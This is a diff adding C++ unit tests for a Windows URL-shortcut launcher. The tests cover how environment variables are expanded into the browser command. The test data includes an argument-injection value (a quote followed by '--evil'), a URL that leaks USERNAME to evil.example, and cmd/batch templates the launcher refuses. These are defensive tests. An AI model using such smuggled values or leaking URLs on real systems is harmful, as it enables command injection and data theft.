@@ -22,6 +22,7 @@ using testing::U16;
 constexpr std::uint32_t kErrorIcon = 0x10;
 constexpr std::uint32_t kQuestionYesNoDefaultNo = 0x124;
 constexpr std::uint32_t kErrorYesNoDefaultNo = 0x114;
+constexpr std::uint32_t kWarningYesNo = 0x134;
 
 const std::u16string kNoUrlText =
     u"Sorry, there wasn't found an URL inside the URL file.\r\nContinue anyway?";
@@ -296,15 +297,125 @@ TEST_F(LaunchTest, TheReaderIsChosenByTheWeblocEndingInAnyCase) {
   }
 }
 
-TEST_F(LaunchTest, EnvironmentReferencesAreExpandedInTheWholeCommand) {
-  platform.environment[u"ProgramFiles"] = u"C:\\Program Files";
-  platform.environment[u"LV_HOST"] = u"intranet.example";
-  platform.AddFile(kBrowserDat, "\"%ProgramFiles%\\b.exe\" \"%s\"");
-  SetUrlLine("URL=http://%LV_HOST%/%UNDEFINED%/100%");
-  EXPECT_EQ(Run(), 0);
-  EXPECT_EQ(platform.started,
-            std::vector<std::u16string>{
-                u"\"C:\\Program Files\\b.exe\" \"http://intranet.example/%UNDEFINED%/100%\""});
+// The URL and each stretch of the template are expanded apart and once; what the environment
+// brings into the URL is asked about (M7), then encoded like the rest of it.
+TEST_F(LaunchTest, TheUrlAndTheTemplateAreExpandedApart) {
+  struct Case {
+    std::string_view browser_dat, url_line;
+    std::vector<std::uint32_t> questions;  // each answered Yes
+    std::u16string_view started;
+  };
+  const Case cases[] = {
+      // A quote in a variable's value cannot end the URL's argument.
+      {"\"B\" \"%s\"",
+       "URL=https://ex.example/%LV_Q%",
+       {kErrorYesNoDefaultNo, kWarningYesNo},
+       u"\"B\" \"https://ex.example/a%22%20--evil\""},
+      {"\"B\" %s",
+       "URL=https://ex.example/%ProgramFiles%",
+       {kErrorYesNoDefaultNo, kWarningYesNo},
+       u"\"B\" https://ex.example/C:\\Program%20Files"},
+      // A value's final backslash is doubled before the template's quote.
+      {"\"B\" \"%s\" --after",
+       "URL=https://ex.example/%LV_BS%",
+       {kWarningYesNo},
+       u"\"B\" \"https://ex.example/dir\\\\\" --after"},
+      {"\"B\" %s", "URL=%LV_DASH%", {kWarningYesNo}, u"\"B\" %2Dx"},
+      // The URL's percent signs pair with nothing of the template's.
+      {"\"B\" \"%s\" --data=%LV_DATA%",
+       "URL=https://ex.example/a%2Fb",
+       {},
+       u"\"B\" \"https://ex.example/a%2Fb\" --data=d"},
+      {"\"%ProgramFiles%\\b.exe\" \"%s\"",
+       "URL=http://a/%UNDEFINED%/100%",
+       {},
+       u"\"C:\\Program Files\\b.exe\" \"http://a/%UNDEFINED%/100%\""},
+      {"\"B\" \"%s\"", "URL=http://%LV_HOST%/", {kWarningYesNo}, u"\"B\" \"http://intranet/\""},
+      // A value is expanded once: the reference it holds stays as written.
+      {"\"B\" %s", "URL=http://a/%LV_PCT%", {kWarningYesNo}, u"\"B\" http://a/%LV_Q%"},
+      // The expansion never meets a NUL: it is encoded first.
+      {"\"B\" %s",
+       std::string_view("URL=http://%LV_HOST%/\0x", 23),
+       {kWarningYesNo},
+       u"\"B\" http://intranet/%00x"},
+  };
+  platform.environment = {{u"LV_Q", u"a\" --evil"}, {u"ProgramFiles", u"C:\\Program Files"},
+                          {u"LV_BS", u"dir\\"},     {u"LV_DASH", u"-x"},
+                          {u"LV_DATA", u"d"},       {u"LV_HOST", u"intranet"},
+                          {u"LV_PCT", u"%LV_Q%"}};
+  for (const Case& c : cases) {
+    SCOPED_TRACE(std::string(c.url_line));
+    platform.shown.clear();
+    platform.started.clear();
+    platform.AddFile(kBrowserDat, std::string(c.browser_dat));
+    SetUrlLine(std::string(c.url_line));
+    platform.message_answers.assign(c.questions.size(), kIdYes);
+    EXPECT_EQ(Run(), 0);
+    std::vector<std::uint32_t> asked;
+    for (const ShownMessage& box : platform.shown) asked.push_back(box.flags);
+    EXPECT_EQ(asked, c.questions);
+    EXPECT_EQ(platform.started, std::vector<std::u16string>{std::u16string(c.started)});
+  }
+}
+
+TEST_F(LaunchTest, AUrlThatTakesValuesFromTheComputerAsksFirst) {
+  platform.environment[u"USERNAME"] = u"alice";
+  SetUrlLine("URL=https://evil.example/?u=%USERNAME%");
+  for (int answer : {kIdNo, 0}) {
+    platform.shown.clear();
+    platform.message_answers = {answer};
+    EXPECT_EQ(Run(), 1);
+    ExpectOneMessage(
+        u"This shortcut puts values from your computer into its web address:\r\n"
+        u"https://evil.example/?u=alice\r\nContinue anyway?",
+        kWarningYesNo);
+  }
+  EXPECT_TRUE(platform.started.empty());
+}
+
+TEST_F(LaunchTest, AFailedExpansionStartsNothing) {
+  SetUrlLine("URL=http://a/\x01%LV_X%");
+  platform.Fail(Operation::kExpandEnvironment);
+  platform.message_answers = {1};
+  EXPECT_EQ(Run(), 2);
+  // The command as the files spell it, before any expansion.
+  ExpectOneMessage(CannotExecuteText(u"\"C:\\Browser\\b.exe\" \"http://a/%01%LV_X%\"",
+                                     u"13 (The environment references could not be expanded.)"),
+                   kErrorIcon);
+  EXPECT_TRUE(platform.started.empty());
+}
+
+TEST_F(LaunchTest, ABatchFileOrCmdIsNeverGivenAUrl) {
+  struct Case {
+    std::string_view browser_dat;
+    bool refused;
+  };
+  const Case cases[] = {
+      {"\"C:\\tools\\open.cmd\" %s", true},
+      {"C:\\tools\\OPEN.BAT. \"%s\"", true},
+      {"cmd /c start \"\" %s", true},
+      {"\"%LV_DIR%\\cmd.exe\" /c %s", true},
+      {"\"C:\\tools\\open.cmd\" --home", false},
+      {"\"C:\\cmd\\b.exe\" %s", false},
+      {"C:\\tools\\cmd.exe.exe %s", false},
+  };
+  platform.environment[u"LV_DIR"] = u"C:\\Windows\\System32";
+  for (const Case& c : cases) {
+    SCOPED_TRACE(std::string(c.browser_dat));
+    platform.shown.clear();
+    platform.started.clear();
+    platform.AddFile(kBrowserDat, std::string(c.browser_dat));
+    if (c.refused) platform.message_answers = {1};
+    EXPECT_EQ(Run(), c.refused ? 2 : 0);
+    EXPECT_EQ(platform.started.empty(), c.refused);
+    if (c.refused) {
+      ASSERT_EQ(platform.shown.size(), 1u);
+      EXPECT_NE(platform.shown[0].text.find(
+                    u"Error code = 50 (A batch file or cmd.exe cannot be given a URL safely; "
+                    u"name the browser's program instead.)."),
+                std::u16string::npos);
+    }
+  }
 }
 
 TEST_F(LaunchTest, ANonAsciiShortcutPathIsFound) {
